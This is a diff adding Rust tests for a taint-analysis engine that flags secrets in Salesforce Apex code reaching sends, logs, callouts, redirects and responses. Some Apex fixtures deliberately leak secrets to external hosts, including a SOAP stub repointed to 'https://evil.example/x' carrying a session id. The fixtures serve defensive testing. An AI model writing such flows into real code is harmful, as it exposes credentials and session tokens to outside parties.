@@ -1,0 +1,428 @@
+//! The engine against a small spec of its own, so that these tests do not move when a lint's
+//! spec does.
+
+use super::url::UrlClass;
+use super::*;
+
+static SOURCES: &[Source] = &[Source {
+    kind: SourceKind::Call(Call {
+        on: On::Class(&["secret", "vault.secret"]),
+        method: "get",
+    }),
+    note: "secret read here",
+}];
+
+static SINKS: &[Sink] = &[
+    Sink {
+        category: "send",
+        at: SinkAt::Call {
+            call: Call {
+                on: On::Class(&["out"]),
+                method: "send",
+            },
+            arg: None,
+        },
+        note: "sent out",
+        endpoint: EndpointOf::None,
+    },
+    Sink {
+        category: "callout",
+        at: SinkAt::Call {
+            call: Call {
+                on: On::Instance(&["http"]),
+                method: "send",
+            },
+            arg: Some(0),
+        },
+        note: "sent in a callout",
+        endpoint: EndpointOf::Value,
+    },
+    Sink {
+        category: "log",
+        at: SinkAt::Call {
+            call: Call {
+                on: On::Class(&["system"]),
+                method: "debug",
+            },
+            arg: None,
+        },
+        note: "logged",
+        endpoint: EndpointOf::None,
+    },
+    Sink {
+        category: "return",
+        at: SinkAt::Return {
+            annotations: &["auraenabled", "httpget"],
+            webservice: true,
+        },
+        note: "returned to the client",
+        endpoint: EndpointOf::None,
+    },
+    Sink {
+        category: "dml",
+        at: SinkAt::Dml,
+        note: "saved",
+        endpoint: EndpointOf::None,
+    },
+    Sink {
+        category: "redirect",
+        at: SinkAt::New {
+            types: &["pagereference"],
+            arg: 0,
+        },
+        note: "put in a URL",
+        endpoint: EndpointOf::Arg(0),
+    },
+    Sink {
+        category: "stub",
+        at: SinkAt::Call {
+            call: Call {
+                on: On::Class(&["webservicecallout"]),
+                method: "invoke",
+            },
+            arg: Some(0),
+        },
+        note: "sent by a stub",
+        endpoint: EndpointOf::ArgListFirst(3),
+    },
+    Sink {
+        category: "response",
+        at: SinkAt::Assign {
+            target: "restcontext.response",
+        },
+        note: "written to the response",
+        endpoint: EndpointOf::None,
+    },
+];
+
+static SPEC: Spec = Spec {
+    sources: SOURCES,
+    sinks: SINKS,
+    sanitizers: &[Call {
+        on: On::Class(&["crypto"]),
+        method: "generatedigest",
+    }],
+    mutators: &["add", "put", "setbody", "setheader", "setendpoint"],
+    arg_propagators: &["replace"],
+    clean_results: NON_VALUE_METHODS,
+    endpoint_setters: &["setendpoint"],
+    endpoint_fields: &["endpoint_x"],
+};
+
+#[derive(Debug)]
+struct Got {
+    category: &'static str,
+    /// `file:line` of the sink.
+    at: String,
+    /// The notes of the path, source first.
+    notes: Vec<String>,
+    endpoint: Option<UrlClass>,
+}
+
+fn run(files: &[(&str, &str)]) -> Vec<Got> {
+    let files: Vec<(String, &str)> = files
+        .iter()
+        .map(|(name, text)| (format!("force-app/main/default/classes/{name}"), *text))
+        .collect();
+    let refs: Vec<(&str, &str)> = files.iter().map(|(p, t)| (p.as_str(), *t)).collect();
+    let project = crate::project::in_memory(&refs);
+    let model = Model::build(&project);
+    analyze(&project, &model, &SPEC)
+        .into_iter()
+        .map(|f| {
+            let file = &project.files[f.file];
+            let line = file.text[..f.span.start].matches('\n').count() + 1;
+            let name = file.rel.rsplit('/').next().unwrap_or("");
+            Got {
+                category: SPEC.sinks[f.sink].category,
+                at: format!("{name}:{line}"),
+                notes: f.path.iter().map(|h| h.note.clone()).collect(),
+                endpoint: f.endpoint.map(|e| e.class),
+            }
+        })
+        .collect()
+}
+
+fn one_class(body: &str) -> Vec<Got> {
+    run(&[("A.cls", &format!("public class A {{\n{body}\n}}"))])
+}
+
+fn categories(got: &[Got]) -> Vec<&'static str> {
+    got.iter().map(|g| g.category).collect()
+}
+
+#[test]
+fn direct_flow_has_source_and_sink() {
+    let got = one_class("  void m() {\n    Out.send(Secret.get());\n  }");
+    assert_eq!(categories(&got), ["send"]);
+    assert_eq!(got[0].at, "A.cls:3");
+    assert_eq!(got[0].notes, ["secret read here"]);
+}
+
+#[test]
+fn names_are_case_insensitive_and_qualifiers_count() {
+    let got = one_class("  void m() {\n    OUT.Send(VAULT.SECRET.GET());\n  }");
+    assert_eq!(categories(&got), ["send"]);
+    assert!(one_class("  void m() {\n    Out.send(Other.get());\n  }").is_empty());
+}
+
+#[test]
+fn propagates_through_expressions_and_collections() {
+    for (i, expr) in [
+        "'Bearer ' + s",
+        "String.format('{0}', new List<Object>{ s })",
+        "String.join(new List<String>{ 'a', s }, ',')",
+        "'x'.replace('x', s)",
+        "flag ? 'none' : s",
+        "(String) s",
+        "JSON.serialize(new Map<String, Object>{ 'k' => s })",
+        "EncodingUtil.base64Encode(Blob.valueOf(s))",
+        "s.substring(1).toUpperCase()",
+        "l",
+        "mm",
+        "l[0]",
+    ]
+    .iter()
+    .enumerate()
+    {
+        let body = format!(
+            "  void m(Boolean flag) {{\n    String s = Secret.get();\n    List<String> l = new List<String>();\n    l.add(s);\n    Map<String, String> mm = new Map<String, String>();\n    mm.put('k', s);\n    Out.send({expr});\n  }}"
+        );
+        let got = one_class(&body);
+        assert_eq!(categories(&got), ["send"], "case {i}: {expr}");
+    }
+}
+
+#[test]
+fn sanitizers_comparisons_and_counts_stop_taint() {
+    for expr in [
+        "Crypto.generateDigest('SHA-256', Blob.valueOf(s))",
+        "s == null",
+        "s.length()",
+        "String.isBlank(s) ? 'a' : 'b'",
+        "s.equals('x')",
+    ] {
+        let body = format!("  void m() {{\n    String s = Secret.get();\n    Out.send({expr});\n  }}");
+        assert!(one_class(&body).is_empty(), "{expr}");
+    }
+}
+
+#[test]
+fn a_name_is_not_a_source() {
+    // Only the value counts: a variable called `secret` that holds something else is clean.
+    let got = one_class("  void m() {\n    String secret = 'public';\n    Out.send(secret);\n  }");
+    assert!(got.is_empty());
+}
+
+#[test]
+fn loops_reach_a_fixpoint() {
+    let got = one_class(
+        "  void m() {\n    String a = '';\n    String b = '';\n    for (Integer i = 0; i < 3; i++) {\n      Out.send(b);\n      b = a;\n      a = Secret.get();\n    }\n  }",
+    );
+    assert_eq!(categories(&got), ["send"]);
+    let got = one_class(
+        "  void m() {\n    List<String> l = new List<String>{ Secret.get() };\n    for (String x : l) {\n      System.debug(x);\n    }\n  }",
+    );
+    assert_eq!(categories(&got), ["log"]);
+}
+
+#[test]
+fn a_method_returning_a_source_is_a_source() {
+    let got = run(&[
+        (
+            "Token.cls",
+            "public class Token {\n  public static String current() {\n    return 'Bearer ' + Secret.get();\n  }\n}",
+        ),
+        (
+            "Client.cls",
+            "public class Client {\n  void m() {\n    String h = Token.current();\n    Out.send(h);\n  }\n}",
+        ),
+    ]);
+    assert_eq!(categories(&got), ["send"]);
+    assert_eq!(got[0].at, "Client.cls:4");
+    assert_eq!(
+        got[0].notes,
+        [
+            "secret read here",
+            "returned here",
+            "returned by `Token.current`",
+            "stored in `h`"
+        ]
+    );
+}
+
+#[test]
+fn a_parameter_that_reaches_a_sink_makes_the_call_a_sink() {
+    let got = run(&[
+        (
+            "Sender.cls",
+            "public class Sender {\n  public void post(String body) {\n    Out.send(body);\n  }\n}",
+        ),
+        (
+            "Client.cls",
+            "public class Client {\n  void m() {\n    Sender s = new Sender();\n    s.post('x');\n    s.post(Secret.get());\n  }\n}",
+        ),
+    ]);
+    assert_eq!(categories(&got), ["send"]);
+    // The sink is where the value leaves, in Sender; the path passes through the call.
+    assert_eq!(got[0].at, "Sender.cls:3");
+    assert_eq!(got[0].notes, ["secret read here", "passed to `Sender.post` as `body`"]);
+}
+
+#[test]
+fn parameters_flow_to_returns_across_chains() {
+    let got = one_class(
+        "  static String wrap(String v) { return '[' + v + ']'; }\n  static String twice(String v) { return wrap(wrap(v)); }\n  void m() {\n    Out.send(twice(Secret.get()));\n    Out.send(twice('clean'));\n  }",
+    );
+    assert_eq!(categories(&got), ["send"]);
+    assert_eq!(got[0].at, "A.cls:5");
+}
+
+#[test]
+fn fields_carry_taint_between_methods_and_classes() {
+    let got = run(&[
+        (
+            "Store.cls",
+            "public class Store {\n  public static String token;\n  private String inst;\n  public Store(String t) { this.inst = t; }\n  public void flush() { Out.send(inst); }\n}",
+        ),
+        (
+            "Client.cls",
+            "public class Client {\n  void fill() { Store.token = Secret.get(); }\n  void use() { Out.send(Store.token); }\n  void ctor() { new Store(Secret.get()); }\n}",
+        ),
+    ]);
+    let mut at: Vec<&str> = got.iter().map(|g| g.at.as_str()).collect();
+    at.sort_unstable();
+    assert_eq!(at, ["Client.cls:3", "Store.cls:5"]);
+}
+
+#[test]
+fn property_getters_and_initializers() {
+    let got = one_class(
+        "  private static String cached = Secret.get();\n  public String tok { get { return cached; } }\n  void m() {\n    Out.send(this.tok);\n  }",
+    );
+    assert_eq!(categories(&got), ["send"]);
+}
+
+#[test]
+fn recursion_terminates() {
+    let got = one_class(
+        "  static String a(String v, Integer n) { return n == 0 ? v : b(v, n - 1); }\n  static String b(String v, Integer n) { return a(v + '.', n); }\n  void m() { Out.send(a(Secret.get(), 3)); }",
+    );
+    assert_eq!(categories(&got), ["send"]);
+}
+
+#[test]
+fn requests_keep_their_endpoint() {
+    let base = "  void m(String p) {\n    HttpRequest req = new HttpRequest();\n    req.setEndpoint(ENDPOINT);\n    req.setHeader('Authorization', 'Bearer ' + Secret.get());\n    new Http().send(req);\n  }\n  static String org() { return URL.getOrgDomainUrl().toExternalForm(); }";
+    let cases: [(&str, Option<UrlClass>); 7] = [
+        (
+            "URL.getOrgDomainUrl().toExternalForm() + '/services/data/v60.0'",
+            Some(UrlClass::SameOrg),
+        ),
+        ("'/services/apexrest/x'", Some(UrlClass::SameOrg)),
+        ("org() + '/services/data'", Some(UrlClass::SameOrg)),
+        (
+            "'https://api.acme.example/v1'",
+            Some(UrlClass::External("api.acme.example".into())),
+        ),
+        ("'callout:Acme/v1'", Some(UrlClass::NamedCredential("Acme".into()))),
+        (
+            "'https://x.example/?sid=' + URL.getOrgDomainUrl()",
+            Some(UrlClass::External("x.example".into())),
+        ),
+        ("p", None),
+    ];
+    for (endpoint, want) in cases {
+        let got = one_class(&base.replace("ENDPOINT", endpoint));
+        assert_eq!(categories(&got), ["callout"], "{endpoint}");
+        match want {
+            Some(w) => assert_eq!(got[0].endpoint, Some(w), "{endpoint}"),
+            None => assert!(
+                matches!(&got[0].endpoint, Some(UrlClass::Unknown(why)) if why.contains("parameter `p`")),
+                "{endpoint}: {:?}",
+                got[0].endpoint
+            ),
+        }
+    }
+}
+
+#[test]
+fn a_request_built_elsewhere_is_followed() {
+    let got = run(&[(
+        "Api.cls",
+        "public class Api {\n  static HttpRequest build() {\n    HttpRequest r = new HttpRequest();\n    r.setEndpoint('https://hooks.example.com/in');\n    r.setBody(Secret.get());\n    return r;\n  }\n  static void send(HttpRequest r) { new Http().send(r); }\n  void m() { send(build()); }\n}",
+    )]);
+    assert_eq!(categories(&got), ["callout"]);
+    assert_eq!(got[0].endpoint, Some(UrlClass::External("hooks.example.com".into())));
+}
+
+#[test]
+fn wsdl_stubs_use_their_endpoint_field() {
+    let stub = |endpoint: &str| {
+        format!(
+            "public class MetaSvc {{\n  public class SessionHeader {{ public String sessionId; }}\n  public class Port {{\n    public String endpoint_x = {endpoint};\n    public SessionHeader header;\n    public void read() {{\n      WebServiceCallout.invoke(this, null, null, new String[]{{ endpoint_x, '', '' }});\n    }}\n  }}\n}}"
+        )
+    };
+    let client = "public class Deployer {\n  void m() {\n    MetaSvc.Port p = new MetaSvc.Port();\n    p.header = new MetaSvc.SessionHeader();\n    p.header.sessionId = Secret.get();\n    p.read();\n  }\n}";
+    let got = run(&[
+        (
+            "MetaSvc.cls",
+            &stub("URL.getOrgDomainUrl().toExternalForm() + '/services/Soap/m/60.0'"),
+        ),
+        ("Deployer.cls", client),
+    ]);
+    assert_eq!(categories(&got), ["stub"]);
+    assert_eq!(got[0].endpoint, Some(UrlClass::SameOrg));
+    let got = run(&[
+        ("MetaSvc.cls", &stub("'https://soap.partner.example/m'")),
+        ("Deployer.cls", client),
+    ]);
+    assert_eq!(got[0].endpoint, Some(UrlClass::External("soap.partner.example".into())));
+    // The caller can repoint the stub.
+    let repointed = client.replace("p.read();", "p.endpoint_x = 'https://evil.example/x';\n    p.read();");
+    let got = run(&[
+        (
+            "MetaSvc.cls",
+            &stub("URL.getOrgDomainUrl().toExternalForm() + '/services/Soap/m/60.0'"),
+        ),
+        ("Deployer.cls", &repointed),
+    ]);
+    assert_eq!(got[0].endpoint, Some(UrlClass::External("evil.example".into())));
+}
+
+#[test]
+fn return_dml_redirect_and_assignment_sinks() {
+    let got = run(&[(
+        "Ctl.cls",
+        "@RestResource(urlMapping='/s/*')\nglobal class Ctl {\n  @AuraEnabled public static String tok() { return Secret.get(); }\n  public static String notExposed() { return Secret.get(); }\n  webservice static String ws() { return Secret.get(); }\n  @HttpGet global static void g() { RestContext.response.responseBody = Blob.valueOf(Secret.get()); }\n  void save() { Account a = new Account(); a.Description = Secret.get(); insert a; }\n  PageReference go() { return new PageReference('https://x.example/?s=' + Secret.get()); }\n}",
+    )]);
+    let mut cats = categories(&got);
+    cats.sort_unstable();
+    assert_eq!(cats, ["dml", "redirect", "response", "return", "return"]);
+    let redirect = got.iter().find(|g| g.category == "redirect").expect("redirect");
+    assert_eq!(redirect.endpoint, Some(UrlClass::External("x.example".into())));
+}
+
+#[test]
+fn test_code_is_not_analyzed() {
+    let got = run(&[(
+        "ATest.cls",
+        "@IsTest\nprivate class ATest {\n  @IsTest static void t() { Out.send(Secret.get()); }\n}",
+    )]);
+    assert!(got.is_empty());
+    let got = one_class(
+        "  @IsTest static void t() { Out.send(Secret.get()); }\n  static testMethod void u() { Out.send(Secret.get()); }",
+    );
+    assert!(got.is_empty());
+}
+
+#[test]
+fn triggers_are_analyzed() {
+    let project = crate::project::in_memory(&[(
+        "force-app/main/default/triggers/T.trigger",
+        "trigger T on Account (before insert) {\n  System.debug(Secret.get());\n}",
+    )]);
+    let model = Model::build(&project);
+    let flows = analyze(&project, &model, &SPEC);
+    assert_eq!(flows.len(), 1);
+}
